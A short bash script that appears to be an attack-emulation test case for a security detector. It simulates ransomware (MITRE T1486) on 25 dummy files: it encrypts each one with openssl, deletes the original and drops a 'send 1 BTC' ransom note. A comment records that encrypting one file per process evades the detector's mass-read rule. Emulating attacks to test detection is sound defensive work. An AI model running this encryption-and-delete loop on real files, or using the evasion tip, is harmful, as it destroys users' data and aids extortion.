#!/usr/bin/env bash
# tactic: impact
# technique: T1486 Data Encrypted for Impact
# behaviour: an insider encrypts another user's project files one by one with openssl and deletes the originals (a copy made for the scenario)
# as: root
# setup: mkdir -p "$SNTL_VICTIM_HOME/share-$SNTL_ID" && for i in $(seq 1 25); do echo "contract $i" > "$SNTL_VICTIM_HOME/share-$SNTL_ID/c$i.odt"; done && chown -R "$SNTL_VICTIM": "$SNTL_VICTIM_HOME/share-$SNTL_ID"
# teardown: rm -rf "$SNTL_VICTIM_HOME/share-$SNTL_ID"
# expect: mass_read
# known-miss: one openssl process per file: no single process reads mass_read's 20 files
set -u
for f in "$SNTL_VICTIM_HOME/share-$SNTL_ID"/*.odt; do
  openssl enc -aes-256-cbc -pbkdf2 -k 'ransom' -in "$f" -out "$f.locked" && rm -f "$f"
done
echo 'send 1 BTC' > "$SNTL_VICTIM_HOME/share-$SNTL_ID/README-RECOVER.txt"
